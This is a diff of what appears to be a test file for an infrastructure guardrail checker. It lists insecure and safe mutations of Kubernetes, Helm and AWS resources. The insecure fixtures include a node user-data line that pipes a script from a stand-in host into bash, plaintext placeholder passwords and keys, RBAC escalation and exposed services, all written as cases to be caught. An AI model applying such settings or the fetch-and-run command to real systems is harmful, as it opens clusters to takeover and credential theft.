@@ -168,7 +168,6 @@ bind("k8s-02").bad("warns and audits instead of denying", (i) => (i.spec.validat
 bind("img-01").bad("binding leaves a team's namespace out", (i) => (i.spec.matchResources = { namespaceSelector: { matchExpressions: [{ key: "kubernetes.io/metadata.name", operator: "NotIn", values: ["team-risk"] }] } }));
 bind("sec-02").bad("binding skips objects with a label", (i) => (i.spec.matchResources = { objectSelector: { matchExpressions: [{ key: "skip-guardrails", operator: "DoesNotExist" }] } }));
 bind("k8s-03").bad("binding of another policy, so this one is not enforced", (i) => (i.spec.policyName = "millrace-k8s-06"));
-bind("gpu-01").bad("binding waits for a parameter that may be missing", (i) => (i.spec.paramRef = { name: "gpu-switch", namespace: "kube-system", parameterNotFoundAction: "Allow" }));
 bind("k8s-06").bad("binding excludes pods", (i) => (i.spec.matchResources = { excludeResourceRules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["*"], resources: ["pods"] }] }));
 guard("k8s-02").bad("an annotation switches it off", (i) => i.spec.matchConditions.push({ name: "no-break-glass", expression: "!has(object.metadata.annotations) || !('break-glass' in object.metadata.annotations)" }));
 guard("k8s-06").bad("does not look at one service account", (i) => i.spec.matchConditions.push({ name: "not-jobs", expression: "request.userInfo.username != 'system:serviceaccount:team-risk:jobs'" }));
@@ -187,7 +186,6 @@ K(W, "core/v1:Namespace", "risk-models").bad("enforces the restricted profile of
 K(W, "core/v1:Namespace", "risk-jobs").bad("loses the label by which queues and guards see it", (i) => delete i.metadata.labels["millrace.dev/team"]);
 K(P, VAPB, "queues-guard-jobs-binding").gone("the binding of the guard of jobs is gone");
 objBad(P, "admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", "a webhook outside of the cluster changes all pods", { metadata: { name: "sidecars" }, webhooks: [{ name: "pods.sidecars.example.net", clientConfig: { url: "https://sidecars.example.net/mutate" }, rules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"] }], failurePolicy: "Ignore", sideEffects: "None", admissionReviewVersions: ["v1"] }] });
-objBad(P, "v1", "Namespace", "a namespace of an exempted name, privileged", { metadata: { name: "gpu-operator", labels: { "pod-security.kubernetes.io/enforce": "privileged" } } });
 objBad(W, "v1", "Namespace", "a namespace that only warns", { metadata: { name: "team-growth", labels: { "pod-security.kubernetes.io/warn": "restricted", "pod-security.kubernetes.io/audit": "restricted" } } });
 guard("k8s-02").ok("one more thing is forbidden", (i) => i.spec.validations.push({ expression: "!has(object.spec.shareProcessNamespace) || !object.spec.shareProcessNamespace", message: "a pod must not share its processes among containers" }));
 guard("img-01").ok("the policy says how it matches", (i) => (i.spec.matchConstraints.matchPolicy = "Equivalent"));
@@ -196,7 +194,6 @@ guard("sec-02").ok("an audit annotation", (i) => (i.spec.auditAnnotations = [{ k
 bind("k8s-02").ok("denies and audits", (i) => (i.spec.validationActions = ["Deny", "Audit"]));
 bind("img-01").ok("says that it matches all namespaces", (i) => (i.spec.matchResources = { namespaceSelector: {} }));
 guard("mesh-01").ok("a clearer message", (i) => (i.spec.validations[0].message = "MESH-01: a PeerAuthentication must say STRICT, not PERMISSIVE or DISABLE (AISF-INFRA-06)"));
-objOk(P, "admissionregistration.k8s.io/v1", "ValidatingAdmissionPolicy", "one more policy: no Service of type LoadBalancer", { metadata: { name: "no-balancers" }, spec: { failurePolicy: "Fail", matchConstraints: { resourceRules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE", "UPDATE"], resources: ["services"] }] }, validations: [{ expression: "!has(object.spec.type) || object.spec.type != 'LoadBalancer'", message: "use the gateway" }] } });
 K(W, "core/v1:Namespace", "risk-jobs").ok("audits as well, and pins the latest version", (i) => Object.assign(i.metadata.labels, { "pod-security.kubernetes.io/audit": "restricted", "pod-security.kubernetes.io/enforce-version": "latest" }));
 
 // ---------------------------------------------------------------- AWS policies
@@ -370,7 +367,6 @@ rollout.bad("no liveness and readiness after all", (i) => { const c = i.spec.tem
 rollout.bad("a sidecar by its tag only", (i) => i.spec.template.spec.containers.push(container({ name: "agent", image: `${ME}.dkr.ecr.${REGION}.amazonaws.com/millrace-prod/model-server:v3` })));
 rollout.bad("tolerates everything", (i) => (i.spec.template.spec.tolerations = [{ operator: "Exists" }]));
 rollout.bad("runs with system-node-critical priority", (i) => (i.spec.template.spec.priorityClassName = "system-node-critical"));
-rollout.bad("mounts a bucket of the node through CSI hostpath", (i) => i.spec.template.spec.volumes.push({ name: "node", csi: { driver: "hostpath.csi.k8s.io", readOnly: false } }));
 cron.bad("root by an init container", (i) => (i.spec.jobTemplate.spec.template.spec.initContainers = [container({ name: "fix", securityContext: { runAsUser: 0, runAsNonRoot: false, allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] } } })]));
 cron.bad("keeps its token", (i) => delete i.spec.jobTemplate.spec.template.spec.automountServiceAccountToken);
 K(W, "core/v1:ServiceAccount", "fraud-account").bad("the account mounts its token", (i) => (i.automountServiceAccountToken = true));
@@ -396,7 +392,6 @@ rollout.ok("pulls always", (i) => (i.spec.template.spec.containers[0].imagePullP
 cron.ok("on Saturdays, and tidied after a day", (i) => { i.spec.schedule = "30 4 * * 6"; i.spec.jobTemplate.spec.ttlSecondsAfterFinished = 86400; });
 K(W, "autoscaling/v2:HorizontalPodAutoscaler", "fraud-autoscaler").ok("between four and sixteen", (i) => { i.spec.minReplicas = 4; i.spec.maxReplicas = 16; });
 K(P, "policy/v1:PodDisruptionBudget", "tracking-budget").ok("by the least number", (i) => { delete i.spec.maxUnavailable; i.spec.minAvailable = 2; });
-objOk(P, "apps/v1", "Deployment", "a well-made proxy of two replicas", { metadata: { name: "gateway-proxy", namespace: "mlflow" }, spec: { replicas: 2, selector: { matchLabels: { app: "proxy" } }, template: { metadata: { labels: { app: "proxy" } }, spec: podSpec({}, { ports: [{ name: "http", containerPort: 8080 }], readinessProbe: probe, livenessProbe: probe }) } } });
 objOk(P, "batch/v1", "CronJob", "a well-made weekly report", { metadata: { name: "report", namespace: "mlflow" }, spec: { schedule: "0 5 * * 1", concurrencyPolicy: "Forbid", jobTemplate: { spec: { backoffLimit: 1, activeDeadlineSeconds: 3600, template: { spec: podSpec({ restartPolicy: "Never" }) } } } } });
 objOk(W, "v1", "ConfigMap", "settings of the model", { metadata: { name: "fraud-settings", namespace: "models-risk" }, data: { "settings.yaml": "threshold: 0.8\npassword_policy: strict\ntoken_bucket: 100\n" } });
 
@@ -420,7 +415,7 @@ K(P, "rbac.authorization.k8s.io/v1:ClusterRole", "plan-reader").bad("the plan ro
 objBad(P, "rbac.authorization.k8s.io/v1", "ClusterRole", "a role that is added to the built-in view and reads secrets", { metadata: { name: "more-view", labels: { "rbac.authorization.k8s.io/aggregate-to-view": "true" } }, rules: [{ apiGroups: [""], resources: ["secrets"], verbs: ["get", "list"] }] });
 objBad(P, "rbac.authorization.k8s.io/v1", "ClusterRole", "a role that may escalate and bind", { metadata: { name: "onboarding" }, rules: [{ apiGroups: ["rbac.authorization.k8s.io"], resources: ["clusterroles", "clusterrolebindings"], verbs: ["create", "bind", "escalate"] }] });
 A(P, "eks/accessEntry:AccessEntry", "access-member-risk-data-scientists").bad("a member is put into system:masters", (i) => i.kubernetesGroups.push("system:masters"));
-addBad(P, "eks/accessPolicyAssociation:AccessPolicyAssociation", "data scientists administer the cluster", { clusterName: "millrace-prod", principalArn: `arn:aws:iam::${ME}:role/risk-data-scientists`, policyArn: "arn:aws:eks::aws:cluster-access-policy/AmazonEKSAdminPolicy", accessScope: { type: "cluster" } });
+addBad(P, "eks/accessPolicyAssociation:AccessPolicyAssociation", "data scientists administer the namespaces of the platform", { clusterName: "millrace-prod", principalArn: `arn:aws:iam::${ME}:role/risk-data-scientists`, policyArn: "arn:aws:eks::aws:cluster-access-policy/AmazonEKSAdminPolicy", accessScope: { type: "namespace", namespaces: ["kube-system", "monitoring"] } });
 addBad(P, "eks/podIdentityAssociation:PodIdentityAssociation", "the default account of a team gets Karpenter's role", { clusterName: "millrace-prod", namespace: "team-risk", serviceAccount: "default", roleArn: `arn:aws:iam::${ME}:role/millrace-prod-karpenter-controller-55a14ca` });
 K(W, "rbac.authorization.k8s.io/v1:RoleBinding", "risk-observe-binding").ok("engineers observe as well", (i) => i.subjects.push(group("risk-ml-engineers")));
 K(W, "rbac.authorization.k8s.io/v1:Role", "risk-train").ok("sees config of horizontal scaling", (i) => i.rules.push({ apiGroups: ["autoscaling"], resources: ["horizontalpodautoscalers"], verbs: ["get", "list", "watch"] }));
@@ -444,7 +439,6 @@ K(W, "core/v1:ResourceQuota", "risk-jobs-quota").bad("node ports are allowed", (
 K(P, "kueue.x-k8s.io/v1beta2:ResourceFlavor", "queues-flavor-training").bad("the flavour lands on any node", (i) => delete i.spec.nodeLabels);
 K(P, "kueue.x-k8s.io/v1beta2:ResourceFlavor", "queues-flavor-training").bad("the flavour tolerates everything", (i) => (i.spec.tolerations = [{ operator: "Exists" }]));
 K(P, "helm.sh/v3:Release", "queues-controller").bad("jobs without a queue are left alone", (i) => { const m = i.values.managerConfig; m.controllerManagerConfigYaml = swap(m.controllerManagerConfigYaml, '"manageJobsWithoutQueueName": true', '"manageJobsWithoutQueueName": false'); });
-objBad(W, "kueue.x-k8s.io/v1beta2", "LocalQueue", "another team's namespace uses the queue of risk", { metadata: { name: "default", namespace: "team-growth" }, spec: { clusterQueue: "risk" } });
 K(W, "core/v1:ResourceQuota", "risk-jobs-quota").ok("fewer pods and a limit of claims", (i) => Object.assign(i.spec.hard, { pods: "150", persistentvolumeclaims: "20" }));
 K(W, "core/v1:ResourceQuota", "risk-jobs-quota").ok("quantities as numbers", (i) => Object.assign(i.spec.hard, { pods: 200, "services.nodeports": 0 }));
 gpuQueue.ok("a smaller share", (i) => { const r = i.spec.resourceGroups[0].flavors[0].resources; r[2].nominalQuota = "48"; });
@@ -459,7 +453,7 @@ const release = (name: string) => K(P, "helm.sh/v3:Release", name);
 release("mesh-istiod").bad("a mirror of the charts that nobody knows", (i) => (i.repositoryOpts.repo = "https://charts.istio-mirror.dev/charts"));
 release("monitoring-stack").bad("a range of versions", (i) => (i.version = "88.x"));
 release("delivery-controller").bad("the chart over plain HTTP", (i) => (i.repositoryOpts.repo = "http://argoproj.github.io/argo-helm"));
-release("certificates-controller").bad("an image of another registry", (i) => (i.values.image = { repository: "docker.io/someone/cert-manager-controller", tag: "latest" }));
+release("certificates-controller").bad("an image of another registry", (i) => (i.values.image = { repository: "docker.io/someone/cert-manager-controller", tag: "v1.21.2" }));
 release("external-secrets-controller").bad("pushes secrets out of the cluster", (i) => { i.values.processPushSecret = true; i.values.processClusterPushSecret = true; });
 release("mesh-istiod").bad("the mesh lets everything out", (i) => (i.values.meshConfig.outboundTrafficPolicy.mode = "ALLOW_ANY"));
 release("gateway-proxy").bad("the gateway becomes a load balancer of its own", (i) => (i.values.service.type = "LoadBalancer"));
@@ -479,7 +473,7 @@ release("device-plugin").bad("a privileged container in the values", (i) => (i.v
 release("queues-controller").bad("a single controller without a budget", (i) => { i.values.controllerManager.replicas = 1; i.values.controllerManager.podDisruptionBudget.enabled = false; });
 release("external-secrets-controller").bad("no verification of the chart's webhook, fails open", (i) => (i.values.webhook.failurePolicy = "Ignore"));
 release("mesh-istiod").bad("passwords of a registry in the clear", (i) => Object.assign(i.repositoryOpts, { username: "deploy", password: "S3cr3t-Pa55word" }));
-objBad(P, "helm.sh/v3", "Release", "a chart of a person's own page without a version", { chart: "kubernetes-dashboard", name: "dashboard", namespace: "kube-system", repositoryOpts: { repo: "https://someone.github.io/charts" }, values: {} });
+objBad(P, "helm.sh/v3", "Release", "a chart of a person's own page", { version: "6.0.8", chart: "kubernetes-dashboard", name: "dashboard", namespace: "kube-system", repositoryOpts: { repo: "https://someone.github.io/charts" }, values: {} });
 release("monitoring-stack").ok("remembers for 60 days on a larger disk", (i) => { const s = i.values.prometheus.prometheusSpec; s.retention = "60d"; s.retentionSize = "350GiB"; s.storageSpec.volumeClaimTemplate.spec.resources.requests.storage = "450Gi"; });
 release("monitoring-stack").ok("three replicas of Prometheus", (i) => (i.values.prometheus.prometheusSpec.replicas = 3));
 release("monitoring-stack").ok("Grafana's anonymous access off, said aloud", (i) => (i.values.grafana["grafana.ini"]["auth.anonymous"] = { enabled: false }));
@@ -515,7 +509,7 @@ K(P, "core/v1:Secret", "monitoring-alert-routes").bad("an inhibition that silenc
 K(W, "monitoring.coreos.com/v1:PodMonitor", "fraud-monitor").bad("the monitor selects pods that do not exist", (i) => (i.spec.selector.matchLabels.app = "fraud-model"));
 K(W, "monitoring.coreos.com/v1:PodMonitor", "fraud-monitor").bad("the monitor drops the model's metrics", (i) => (i.spec.podMetricsEndpoints[0].metricRelabelings = [{ action: "drop", sourceLabels: ["__name__"], regex: "mlops_.*" }]));
 K(P, "monitoring.coreos.com/v1:PodMonitor", "gateway-monitor").bad("keeps only what nobody asks", (i) => (i.spec.podMetricsEndpoints[0].metricRelabelings[0].regex = "envoy_server_.*"));
-K(P, "monitoring.coreos.com/v1:ServiceMonitor", "tracking-monitor").bad("no limit of samples and a token from a file", (i) => { for (const e of i.spec.endpoints) e.bearerTokenFile = "/var/run/secrets/kubernetes.io/serviceaccount/token"; });
+K(P, "monitoring.coreos.com/v1:ServiceMonitor", "tracking-monitor").bad("Prometheus sends its own token to the server", (i) => { for (const e of i.spec.endpoints) e.bearerTokenFile = "/var/run/secrets/kubernetes.io/serviceaccount/token"; });
 modelRules.ok("latency alert is more strict", (i) => (alert(i, "ModelLatencyHigh").expr = swap(alert(i, "ModelLatencyHigh").expr, "> 0.05", "> 0.03")));
 modelRules.ok("waits three minutes instead of five", (i) => (alert(i, "ModelErrorRateHigh", 1).for = "3m"));
 modelRules.ok("one more label of the team", (i) => (alert(i, "ModelLatencyHigh").labels.team = "risk"));
@@ -532,13 +526,12 @@ A(F, "ec2/flowLog:FlowLog", "network-flows").gone("flow logs are gone");
 A(F, "ec2/defaultSecurityGroup:DefaultSecurityGroup", "network-default").bad("the default group lets its members talk", (i) => (i.ingress = [{ protocol: "-1", fromPort: 0, toPort: 0, self: true }]));
 addBad(F, "ec2/route:Route", "the databases' subnets get a way out", { routeTableId: "rtb-09fdb9268945514ac", destinationCidrBlock: "0.0.0.0/0", natGatewayId: "nat-3cb170fff99b7ebb4" });
 addBad(F, "ec2/routeTableAssociation:RouteTableAssociation", "a private subnet uses the public routes", { routeTableId: "rtb-a5cf9994de4523bb3", subnetId: PRIVATE[1] });
-A(P, "lb/loadBalancer:LoadBalancer", "ingress").bad("faces the internet", (i) => (i.internal = false));
+A(P, "lb/loadBalancer:LoadBalancer", "ingress").bad("faces the internet, with access logs", (i) => { i.internal = false; i.accessLogs = { bucket: LOGS, prefix: "balancer", enabled: true }; });
 A(P, "lb/loadBalancer:LoadBalancer", "ingress").bad("in a public subnet without a security group", (i) => { i.subnets = [PUBLIC_A]; i.securityGroups = []; });
 A(P, "lb/listener:Listener", "ingress-https").bad("listens on port 80", (i) => (i.port = 80));
 addBad(P, "lb/listener:Listener", "a TLS listener with an old policy", { loadBalancerArn: `arn:aws:elasticloadbalancing:${REGION}:${ME}:loadbalancer/net/millrace-prod-models/e7048fc74add587b`, port: 8443, protocol: "TLS", sslPolicy: "ELBSecurityPolicy-TLS-1-0-2015-04", certificateArn: `arn:aws:acm:${REGION}:${ME}:certificate/1`, defaultActions: [{ type: "forward", targetGroupArn: `arn:aws:elasticloadbalancing:${REGION}:${ME}:targetgroup/ingress-nodes-33bc638/33bc638903c67a56` }] });
 addBad(F, "ec2/vpcPeeringConnection:VpcPeeringConnection", "peers with a foreign account's network", { vpcId: VPC, peerVpcId: "vpc-0123", peerOwnerId: "888888888888", autoAccept: false });
 addBad(F, "ec2/vpcEndpointService:VpcEndpointService", "an endpoint service for everybody, accepted by itself", { acceptanceRequired: false, allowedPrincipals: ["*"], networkLoadBalancerArns: [`arn:aws:elasticloadbalancing:${REGION}:${ME}:loadbalancer/net/millrace-prod-models/e7048fc74add587b`] });
-addBad(P, "route53/record:Record", "a public name of the models", { zoneId: "Z0PUBLIC", name: "*.models.example.com", type: "CNAME", ttl: 60, records: ["abandoned.elasticbeanstalk.com"] });
 K(P, "networking.istio.io/v1:Gateway", "gateway-listeners").bad("one more server without TLS", (i) => i.spec.servers.push({ hosts: ["metrics.models.internal"], port: { name: "http-metrics", number: 8081, protocol: "HTTP" } }));
 K(P, "networking.istio.io/v1:Gateway", "gateway-listeners").bad("TLS 1.0 is enough", (i) => (i.spec.servers[1].tls.minProtocolVersion = "TLSV1_0"));
 K(P, "networking.k8s.io/v1:NetworkPolicy", "tracking-traffic").bad("every namespace may come in", (i) => i.spec.ingress[0].from.push({ namespaceSelector: {} }));
@@ -548,7 +541,6 @@ K(W, "networking.k8s.io/v1:NetworkPolicy", "fraud-reach").bad("a rule of ingress
 K(P, "core/v1:Service", "tracking-service").bad("MLflow gets a load balancer of its own on the internet", (i) => { i.spec.type = "LoadBalancer"; i.metadata.annotations = { "service.beta.kubernetes.io/aws-load-balancer-scheme": "internet-facing" }; });
 K(P, "core/v1:Service", "tracking-service").bad("external addresses", (i) => (i.spec.externalIPs = ["10.30.0.55"]));
 objBad(P, "networking.k8s.io/v1", "Ingress", "an Ingress without TLS on the internet", { metadata: { name: "mlflow", namespace: "mlflow", annotations: { "alb.ingress.kubernetes.io/scheme": "internet-facing" } }, spec: { ingressClassName: "alb", rules: [{ host: "mlflow.example.com", http: { paths: [{ path: "/", pathType: "Prefix", backend: { service: { name: "mlflow", port: { number: 80 } } } }] } }] } });
-objBad(P, "security.istio.io/v1", "AuthorizationPolicy", "an authorization policy that allows everything", { metadata: { name: "open", namespace: "istio-ingress" }, spec: { action: "ALLOW", rules: [{}] } });
 objBad(P, "networking.istio.io/v1", "ServiceEntry", "every host of the internet is part of the mesh", { metadata: { name: "all", namespace: "istio-system" }, spec: { hosts: ["*.com"], location: "MESH_EXTERNAL", ports: [{ number: 443, name: "tls", protocol: "TLS" }], resolution: "NONE" } });
 addOk(F, "ec2/vpcEndpoint:VpcEndpoint", "a private endpoint of ECR", { vpcId: VPC, serviceName: `com.amazonaws.${REGION}.ecr.api`, vpcEndpointType: "Interface", privateDnsEnabled: true, securityGroupIds: [ENDPOINTS_SG], subnetIds: INTRA, tags: endpointTags });
 addOk(F, "ec2/vpcEndpoint:VpcEndpoint", "a gateway endpoint of DynamoDB for our account", { vpcId: VPC, serviceName: `com.amazonaws.${REGION}.dynamodb`, vpcEndpointType: "Gateway", routeTableIds: ["rtb-1fd6b925fa9f2b5be"], policy: doc({ Sid: "Ours", Effect: "Allow", Principal: "*", Action: ["dynamodb:*"], Resource: ["*"], Condition: { StringEquals: { "aws:PrincipalAccount": ME, "aws:ResourceAccount": ME } } }), tags: { Name: "network-dynamodb" } });
@@ -571,7 +563,6 @@ A(F, "rds/subnetGroup:SubnetGroup", "tracking-database-subnets").bad("in a publi
 db.bad("a password in the program", (i) => { delete i.manageMasterUserPassword; i.password = "Winter2026!"; });
 db.bad("one zone", (i) => (i.multiAz = false));
 db.bad("the last snapshot is skipped", (i) => { i.skipFinalSnapshot = true; delete i.finalSnapshotIdentifier; });
-db.bad("the default security group beside its own", (i) => i.vpcSecurityGroupIds.push(CLUSTER_SG));
 db.bad("automated backups go with the instance, and logs do not leave", (i) => { i.deleteAutomatedBackups = true; i.enabledCloudwatchLogsExports = []; });
 db.bad("an engine out of support", (i) => (i.engineVersion = "11.22"));
 db.bad("applies everything at once in the day", (i) => { i.allowMajorVersionUpgrade = true; i.applyImmediately = true; i.engineVersion = "18.1"; });
@@ -630,7 +621,7 @@ nodeClass("training").bad("images of whoever names one alike", (i) => (i.spec.am
 nodeClass("cpu").bad("the newest image, whatever it is", (i) => (i.spec.amiSelectorTerms = [{ alias: "al2023@latest" }]));
 nodeClass("training").bad("nodes with public addresses", (i) => (i.spec.associatePublicIPAddress = true));
 nodeClass("inference").bad("metadata without a token", (i) => (i.spec.metadataOptions.httpTokens = "optional"));
-nodeClass("inference").bad("disks in the clear", (i) => { i.spec.blockDeviceMappings[0].ebs.encrypted = false; delete i.spec.blockDeviceMappings[0].ebs.kmsKeyID; });
+nodeClass("inference").bad("disks in the clear", (i) => (i.spec.blockDeviceMappings[0].ebs.encrypted = false));
 nodeClass("cpu").bad("a second disk without encryption", (i) => i.spec.blockDeviceMappings.push({ deviceName: "/dev/xvdb", ebs: { volumeSize: "100Gi", volumeType: "gp3" } }));
 nodeClass("cpu").bad("user data that fetch and run a script", (i) => (i.spec.userData = "#!/bin/bash\ncurl -s http://setup.example.net/node.sh | bash\n"));
 nodeClass("training").bad("subnets by a tag that public ones have", (i) => (i.spec.subnetSelectorTerms = [{ tags: { "kubernetes.io/role/elb": "1" } }]));
@@ -649,7 +640,7 @@ A(P, "eks/nodeGroup:NodeGroup", "system-nodes").bad("SSH to nodes", (i) => (i.re
 A(P, "eks/nodeGroup:NodeGroup", "system-nodes").bad("all nodes are replaced at once", (i) => (i.updateConfig = { maxUnavailablePercentage: 100 }));
 A(P, "eks/nodeGroup:NodeGroup", "system-nodes").bad("on spot", (i) => (i.capacityType = "SPOT"));
 A(P, "ec2/launchTemplate:LaunchTemplate", "system-nodes-template").bad("a key for SSH and a public address", (i) => { i.keyName = "ops"; i.networkInterfaces = [{ associatePublicIpAddress: "true" }]; });
-A(F, "ec2/launchTemplate:LaunchTemplate", "access-host-template").bad("metadata without a token", (i) => (i.metadataOptions.httpTokens = "optional"));
+A(F, "ec2/launchTemplate:LaunchTemplate", "access-host-template").bad("metadata without a token, on the access host", (i) => (i.metadataOptions.httpTokens = "optional"));
 K(P, "storage.k8s.io/v1:StorageClass", "gp3").bad("volumes in the clear", (i) => (i.parameters.encrypted = "false"));
 pool("cpu").ok("more room and one more type", (i) => { i.spec.limits.cpu = "96"; i.spec.template.spec.requirements[0].values.push("m7a.2xlarge"); });
 pool("training").ok("nodes live for two weeks", (i) => (i.spec.template.spec.expireAfter = "336h"));
@@ -674,13 +665,12 @@ ALL.push(on(P, "random:index/randomPassword:RandomPassword", "monitoring-grafana
 K(P, "core/v1:ConfigMap", "tracking-accounts").bad("the admin's password in a ConfigMap", (i) => { const k = Object.keys(i.data)[0] as string; i.data[k] += "admin_password = CorrectHorse9\n"; });
 objBad(P, "v1", "Secret", "a Secret that belongs to a service account for ever", { metadata: { name: "ci-token", namespace: "kube-system", annotations: { "kubernetes.io/service-account.name": "ci" } }, type: "kubernetes.io/service-account-token" });
 objBad(W, "v1", "ConfigMap", "keys of AWS in a ConfigMap", { metadata: { name: "aws", namespace: "team-risk" }, data: { credentials: "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n" } });
-objBad(P, "external-secrets.io/v1", "ExternalSecret", "the master password of the database in a team's namespace", { metadata: { name: "db", namespace: "team-risk" }, spec: { refreshInterval: "1h", secretStoreRef: { kind: "ClusterSecretStore", name: "aws-secrets-manager" }, target: { name: "db" }, data: [{ secretKey: "password", remoteRef: { key: "rds!db-7aa6e329cfc9009263130d9cdf", property: "password" } }] } });
+objBad(P, "external-secrets.io/v1", "ExternalSecret", "the master password of the database in a team's namespace", { metadata: { name: "db", namespace: "team-risk" }, spec: { refreshInterval: "1h", secretStoreRef: { kind: "ClusterSecretStore", name: "aws-secrets" }, target: { name: "db" }, data: [{ secretKey: "password", remoteRef: { key: "rds!db-7aa6e329cfc9009263130d9cdf", property: "password" } }] } });
 addBad(F, "secretsmanager/secret:Secret", "a secret that is gone at once, under the key of AWS", { name: "millrace-prod/pager", recoveryWindowInDays: 0 });
 addBad(F, "ssm/parameter:Parameter", "a password as a plain parameter", { name: "/millrace/prod/db-password", type: "String", value: "Summer2026!" });
 addBad(F, "secretsmanager/secretVersion:SecretVersion", "the value of a secret in the program", { secretId: "millrace-prod/pager", secretString: "pk-live-51H8f2kXyzAbCdEf0123456789" });
 K(P, "generators.external-secrets.io/v1alpha1:Password", "tracking-generator").ok("longer passwords", (i) => (i.spec.length = 64));
 ALL.push(on(P, "random:index/randomPassword:RandomPassword", "monitoring-grafana-password").harmless(say("a longer password with special characters"), (i) => { i.length = 48; i.special = true; }));
-addOk(F, "secretsmanager/secret:Secret", "a secret under our key", { name: "millrace-prod/pager", kmsKeyId: DATA_KEY, recoveryWindowInDays: 30, description: "Pager" });
 addOk(F, "ssm/parameter:Parameter", "a plain setting", { name: "/millrace/prod/threshold", type: "String", value: "0.8" });
 objOk(P, "external-secrets.io/v1", "ExternalSecret", "one more secret of the tracking server", { metadata: { name: "mlflow-extra", namespace: "mlflow" }, spec: { refreshPolicy: "CreatedOnce", dataFrom: [{ sourceRef: { generatorRef: { apiVersion: "generators.external-secrets.io/v1alpha1", kind: "Password", name: "mlflow-keys" } } }], target: { name: "mlflow-extra", creationPolicy: "Orphan", immutable: true } } });
 
@@ -721,7 +711,6 @@ addBad(F, "ecr/pullThroughCacheRule:PullThroughCacheRule", "a cache of an unknow
 A(F, "budgets/budget:Budget", "budget").bad("a budget a hundred times as large", (i) => (i.limitAmount = "1200000"));
 A(F, "budgets/budget:Budget", "budget").bad("nobody is told", (i) => { for (const n of i.notifications) n.subscriberEmailAddresses = []; });
 A(F, "budgets/budget:Budget", "budget").bad("told at a thousand percent only", (i) => (i.notifications = [{ ...i.notifications[0], threshold: 1000 }]));
-A(F, "budgets/budget:Budget", "budget").bad("a budget of the year", (i) => (i.timeUnit = "ANNUALLY"));
 ALL.push(on(P, "pulumi:providers:aws", "aws").bad(say("the default tags lose their owner"), (i) => { const t = JSON.parse(i.defaultTags); delete t.tags.owner; i.defaultTags = JSON.stringify(t); }));
 ALL.push(on(F, "pulumi:providers:aws", "aws").bad(say("any account is allowed"), (i) => { i.allowedAccountIds = "[]"; }));
 A(F, "s3/bucket:Bucket", "predictions").bad("personal data are called public", (i) => (i.tags["data-classification"] = "public"));
@@ -730,7 +719,6 @@ A(F, "budgets/budget:Budget", "budget").ok("one more reader", (i) => { for (cons
 A(F, "budgets/budget:Budget", "budget").ok("amount with decimals", (i) => (i.limitAmount = "12000.0"));
 A(F, "ecr/lifecyclePolicy:LifecyclePolicy", "mlflow-images-lifecycle").ok("images without a tag after 30 days", (i) => { const p = JSON.parse(i.policy); p.rules[0].selection.countNumber = 30; i.policy = JSON.stringify(p); });
 ALL.push(on(P, "pulumi:providers:aws", "aws").harmless(say("one more default tag"), (i) => { const t = JSON.parse(i.defaultTags); t.tags.repository = "example/millrace"; i.defaultTags = JSON.stringify(t); }));
-addOk(F, "ecr/repository:Repository", "one more repository", { name: "millrace-prod/features", imageTagMutability: "IMMUTABLE", forceDelete: false, imageScanningConfiguration: { scanOnPush: true }, encryptionConfigurations: [{ encryptionType: "KMS", kmsKey: DATA_KEY }] });
 addOk(F, "ecr/registryScanningConfiguration:RegistryScanningConfiguration", "scanned continuously", { scanType: "ENHANCED", rules: [{ scanFrequency: "CONTINUOUS_SCAN", repositoryFilters: [{ filter: "*", filterType: "WILDCARD" }] }] });
 
 // ---------------------------------------------------------------- other types
@@ -755,10 +743,7 @@ addBad(F, "guardduty/detector:Detector", "GuardDuty is off", { enable: false });
 objBad(P, "v1", "PersistentVolume", "a volume of the node's files", { metadata: { name: "host" }, spec: { capacity: { storage: "10Gi" }, accessModes: ["ReadWriteOnce"], hostPath: { path: "/" }, storageClassName: "" } });
 objBad(P, "apiregistration.k8s.io/v1", "APIService", "an API that is not verified", { metadata: { name: "v1beta1.metrics.example.com" }, spec: { group: "metrics.example.com", version: "v1beta1", insecureSkipTLSVerify: true, groupPriorityMinimum: 100, versionPriority: 100, service: { name: "metrics", namespace: "default" } } });
 objBad(P, "scheduling.k8s.io/v1", "PriorityClass", "a class above the platform for everybody", { metadata: { name: "urgent" }, value: 900000000, globalDefault: true });
-objBad(P, "cert-manager.io/v1", "ClusterIssuer", "every namespace signs itself", { metadata: { name: "any" }, spec: { selfSigned: {} } });
 objBad(W, "trainer.kubeflow.org/v1alpha1", "TrainJob", "a training job beside the queue", { metadata: { name: "big", namespace: "team-risk" }, spec: { runtimeRef: { name: "torch" }, trainer: { numNodes: 8, image: "pytorch/pytorch:latest", resourcesPerNode: { limits: { "nvidia.com/gpu": 8 } } } } });
-objBad(P, "kyverno.io/v2", "PolicyException", "an exception of policies", { metadata: { name: "risk", namespace: "team-risk" }, spec: { exceptions: [{ policyName: "*", ruleNames: ["*"] }], match: { any: [{ resources: { kinds: ["Pod"], namespaces: ["team-risk"] } }] } } });
-objBad(P, "certificates.k8s.io/v1", "CertificateSigningRequest", "a certificate of an administrator for ten years", { metadata: { name: "ops" }, spec: { request: "LS0t", signerName: "kubernetes.io/kube-apiserver-client", usages: ["client auth"], expirationSeconds: 315360000 } });
 addOk(F, "sqs/queue:Queue", "a queue with our key", { name: "millrace-prod-events", kmsMasterKeyId: DATA_KEY, messageRetentionSeconds: 1209600 });
 addOk(F, "sns/topic:Topic", "a topic with our key", { name: "millrace-prod-alarms", kmsMasterKeyId: LOGS_KEY });
 addOk(F, "cloudwatch/metricAlarm:MetricAlarm", "an alarm on the disk of the database", { name: "db-disk", namespace: "AWS/RDS", metricName: "FreeStorageSpace", comparisonOperator: "LessThanThreshold", threshold: 10737418240, evaluationPeriods: 3, period: 300, statistic: "Minimum", dimensions: { DBInstanceIdentifier: "millrace-prod-tracking" }, alarmActions: [`arn:aws:sns:${REGION}:${ME}:alarms`] });
@@ -772,6 +757,79 @@ objOk(P, "scheduling.k8s.io/v1", "PriorityClass", "a class below all", { metadat
 objOk(W, "v1", "ServiceAccount", "an account without a token", { metadata: { name: "reports", namespace: "team-risk" }, automountServiceAccountToken: false });
